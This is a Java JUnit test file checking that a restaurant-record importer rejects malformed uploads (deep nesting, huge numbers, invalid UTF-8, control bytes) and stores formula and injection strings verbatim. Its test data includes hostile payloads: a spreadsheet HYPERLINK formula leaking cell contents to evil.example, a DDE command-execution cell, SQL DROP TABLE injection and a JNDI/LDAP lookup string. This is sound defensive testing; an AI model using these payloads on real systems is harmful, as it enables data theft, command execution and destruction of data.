package com.bellyfed.imports.records;

import static org.assertj.core.api.Assertions.assertThat;

import com.bellyfed.events.publishing.EventFactory;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile records become rejections with their line and a reason that names the problem, never an
 * exception that would end the upload, and never a record changed behind the sender's back.
 */
class RecordReaderHostileInputTests {

  private static final String RESTAURANT_HEADER = "name,city,cuisine,address,priceLevel,lat,lon";

  @Test
  void rejectsJsonNestedTenThousandDeepWhereverItIs() throws IOException {
    String deepArray = "[".repeat(10_000) + "]".repeat(10_000);
    String deepObject = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
    List<RecordReader.Entry> entries = drain(RecordType.RESTAURANTS, Format.NDJSON, bytes(
        deepArray + "\n"
            + restaurant("\"name\":" + deepObject) + "\n"
            + restaurant("\"tags\":[" + deepArray + "]") + "\n"
            + "{\"extra\":" + deepObject + "}\n"));

    assertThat(entries).hasSize(4).allSatisfy(entry -> assertThat(entry).isInstanceOf(RecordReader.Rejected.class));
    assertThat(reason(entries.get(0))).startsWith("not a restaurants record");
    assertThat(reason(entries.get(1))).contains("name");
    assertThat(reason(entries.get(2))).contains("tags");
    assertThat(reason(entries.get(3))).startsWith("beyond the parser's limits: Document nesting depth (501)");
  }

  @Test
  void rejectsNumbersOfTenThousandDigitsAndNumbersBeyondADouble() throws IOException {
    String digits = "9".repeat(10_000);
    List<RecordReader.Entry> json = drain(RecordType.RESTAURANTS, Format.NDJSON, bytes(
        restaurant("\"priceLevel\":" + digits) + "\n"
            + restaurant("\"lat\":" + digits + ",\"lon\":1") + "\n"
            + restaurant("\"lat\":1e1000000,\"lon\":1") + "\n"
            + restaurant("\"lat\":-1e1000000,\"lon\":1") + "\n"));
    List<RecordReader.Entry> csv = drain(RecordType.RESTAURANTS, Format.CSV, bytes(RESTAURANT_HEADER + "\n"
        + "A,B,C,D," + digits + ",,\n"
        + "A,B,C,D,1," + digits + ",1\n"
        + "A,B,C,D,1,1e1000000,1\n"
        + "A,B,C,D,1,NaN,1\n"
        + "A,B,C,D,1,1,Infinity\n"));

    assertThat(json).hasSize(4).allSatisfy(entry -> assertThat(entry).isInstanceOf(RecordReader.Rejected.class));
    assertThat(csv).hasSize(5).allSatisfy(entry -> assertThat(entry).isInstanceOf(RecordReader.Rejected.class));
    assertThat(reason(json.get(0))).startsWith("beyond the parser's limits: Number value length (10000)");
    assertThat(reason(json.get(1))).startsWith("beyond the parser's limits: Number value length (10000)");
    assertThat(reason(json.get(2))).isEqualTo("field 'lat' lat and lon must be finite numbers");
    assertThat(reason(json.get(3))).isEqualTo("field 'lat' lat and lon must be finite numbers");
    assertThat(reason(csv.get(0))).startsWith("beyond the parser's limits: Number value length (10000)");
    assertThat(reason(csv.get(2))).isEqualTo("field 'lat' lat and lon must be finite numbers");
    assertThat(reason(csv.get(3))).isEqualTo("field 'lat' lat and lon must be finite numbers");
    assertThat(reason(csv.get(4))).isEqualTo("field 'lat' lat and lon must be finite numbers");
  }

  @ParameterizedTest
  @ValueSource(strings = {"NDJSON", "CSV"})
  void rejectsLinesThatAreNotUtf8OrCarryNulAndOtherControlBytes(String formatName) throws IOException {
    Format format = Format.valueOf(formatName);
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    if (format == Format.CSV) {
      body.writeBytes(bytes(RESTAURANT_HEADER + "\n"));
    }
    byte[][] hostile = {
        {(byte) 0xC3, '('},                      // a broken two-byte sequence
        {(byte) 0xFF},                           // never a UTF-8 byte
        {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, // an encoded surrogate (U+D800): not UTF-8 either
        {(byte) 0xC0, (byte) 0xAF},              // an overlong '/'
        {0},                                     // NUL
        {0x01},                                  // another control byte
        {0x1B, '[', '2', 'J'}};                  // an ANSI escape
    for (byte[] bad : hostile) {
      byte[] line = format == Format.CSV ? bytes("\"Name X\",B,C,D,1,,") : bytes(restaurant(""));
      int at = indexOf(line, 'X');
      body.write(line, 0, at);
      body.writeBytes(bad);
      body.write(line, at + 1, line.length - at - 1);
      body.write('\n');
    }

    List<RecordReader.Entry> entries = drain(RecordType.RESTAURANTS, format, body.toByteArray());

    assertThat(entries).hasSize(hostile.length).allSatisfy(entry -> assertThat(entry).isInstanceOf(RecordReader.Rejected.class));
    long first = format == Format.CSV ? 2 : 1;
    for (int i = 0; i < 4; i++) {
      assertThat(entries.get(i).line()).isEqualTo(first + i);
      assertThat(reason(entries.get(i))).startsWith("line is not valid UTF-8");
    }
    assertThat(reason(entries.get(4))).startsWith("line contains the control character U+0000");
    assertThat(reason(entries.get(5))).startsWith("line contains the control character U+0001");
    assertThat(reason(entries.get(6))).startsWith("line contains the control character U+001B");
  }

  @Test
  void keepsFormulaCellsAndInjectionStringsExactlyAsGiven() throws IOException {
    List<String> cells = List.of(
        "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
        "'; DROP TABLE restaurants; --", "{\"$ne\": null}", "${jndi:ldap://evil.example/a}", "#{7*7}", "a\tb");
    StringBuilder csv = new StringBuilder("name,city,cuisine,address\n");
    for (String cell : cells) {
      csv.append(quoted(cell)).append(",City,").append(quoted(cell)).append(",1 Road\n");
    }

    List<RecordReader.Entry> entries = drain(RecordType.RESTAURANTS, Format.CSV, bytes(csv.toString()));

    assertThat(entries).hasSize(cells.size());
    for (int i = 0; i < cells.size(); i++) {
      assertThat(entries.get(i)).as(cells.get(i)).isInstanceOf(RecordReader.Accepted.class);
      RestaurantRecord record = (RestaurantRecord) ((RecordReader.Accepted) entries.get(i)).record();
      assertThat(record.name()).isEqualTo(cells.get(i));
      assertThat(record.shared().name()).isEqualTo(cells.get(i));
      assertThat(record.shared().cuisine()).isEqualTo(cells.get(i));
    }
  }

  private static String quoted(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }

  private static String restaurant(String extra) {
    return "{\"name\":\"Name X\",\"city\":\"B\",\"cuisine\":\"C\",\"address\":\"D\"" + (extra.isEmpty() ? "" : "," + extra) + "}";
  }

  private static int indexOf(byte[] line, char c) {
    for (int i = 0; i < line.length; i++) {
      if (line[i] == c) {
        return i;
      }
    }
    throw new IllegalArgumentException("no " + c);
  }

  private static String reason(RecordReader.Entry entry) {
    return ((RecordReader.Rejected) entry).reason();
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static List<RecordReader.Entry> drain(RecordType type, Format format, byte[] body) throws IOException {
    RecordReader reader = RecordReader.open(type, format, new ByteArrayInputStream(body), EventFactory.plainValidator(), 64 * 1024,
        Clock.systemUTC());
    List<RecordReader.Entry> entries = new ArrayList<>();
    for (RecordReader.Entry entry; (entry = reader.next()) != null; ) {
      entries.add(entry);
    }
    return entries;
  }
}
